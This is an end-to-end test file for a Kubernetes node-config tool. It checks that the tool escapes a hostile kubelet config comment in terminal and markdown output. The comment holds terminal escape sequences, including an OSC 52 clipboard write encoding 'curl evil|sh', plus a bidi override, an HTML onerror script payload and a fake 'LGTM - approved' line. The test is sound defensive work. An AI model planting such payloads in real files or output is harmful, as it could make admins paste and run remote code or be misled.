// Node text is data on every output: a kubelet config comment holding terminal escape sequences,
// a bidi override and HTML, as a non-root user could get an admin to paste it, planned on a real node.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { PlanFile } from '../../src/plan/types.js';
import { downLab, upLab, type Lab } from '../lab/lab.js';
import { RAW_CONTROL } from '../unit/support/hostile-text.js';
import { kubemend } from './cli.js';
import { labShell, shq } from './helpers.js';

const canRun = inject('lab') !== undefined;
const LAB = `${process.env.KUBEMEND_E2E_LAB || 'e2e'}-text`;
const NODE = 'kubeadm-worker-bad';
const CONFIG = '/var/lib/kubelet/config.yaml';
const COMMENT =
  '  # \x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07 pool owner \x1b[2J\u202e <img src=x onerror=alert(1)>';

describe.skipIf(!canRun)('a hostile config comment on a lab node', () => {
  let lab: Lab;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'kubemend-e2e-text-'));
    lab = await upLab({
      name: LAB,
      nodes: [NODE],
      replace: true,
      log: (l) => console.log(`[lab ${LAB}] ${l}`),
    });
  });
  afterAll(async () => {
    await downLab(LAB);
    rmSync(dir, { recursive: true, force: true });
  });

  it('plan shows it escaped on the terminal and in the ticket; the plan file and the patch keep its bytes', async () => {
    const ssh = (command: string) => labShell(lab).ssh(NODE, command);
    const original = await ssh(`cat ${shq(CONFIG)}`);
    const planted = original.replace('authorization:\n', `${COMMENT}\n  # LGTM - approved\nauthorization:\n`);
    expect(planted).not.toBe(original);
    await ssh(`printf %s ${shq(Buffer.from(planted).toString('base64'))} | base64 -d > ${shq(CONFIG)}`);
    try {
      const args = [
        'plan',
        '-i',
        lab.inventoryPath,
        '--out',
        join(dir, 'p.json'),
        '--diff',
        join(dir, 'p.patch'),
      ];
      const text = await kubemend([...args, '--no-color']);
      expect(text.code).toBe(1);
      expect(text.stdout).not.toMatch(RAW_CONTROL);
      expect(text.stdout).toContain(
        '# \\x1b]0;pwned\\x07 \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 pool owner \\x1b[2J\\u202e <img',
      );

      const md = await kubemend([...args, '-o', 'markdown']);
      expect(md.code).toBe(1);
      expect(md.stdout).not.toMatch(RAW_CONTROL);
      let fence: string | null = null;
      for (const line of md.stdout.split('\n')) {
        const open = /^(`{3,})/.exec(line);
        if (fence === null && open) fence = open[1]!;
        else if (fence !== null && line === fence) fence = null;
        else if (fence === null) expect(line).not.toMatch(/<img|^#+ LGTM/);
      }
      expect(md.stdout).toContain('\\x1b]0;pwned\\x07');

      expect(readFileSync(join(dir, 'p.patch'), 'utf8')).toContain(` ${COMMENT}\n`);
      const plan = JSON.parse(readFileSync(join(dir, 'p.json'), 'utf8')) as PlanFile;
      expect(plan.nodes[0]!.changes[0]!.after.content).toContain(COMMENT);
    } finally {
      await ssh(`printf %s ${shq(Buffer.from(original).toString('base64'))} | base64 -d > ${shq(CONFIG)}`);
    }
  });
});
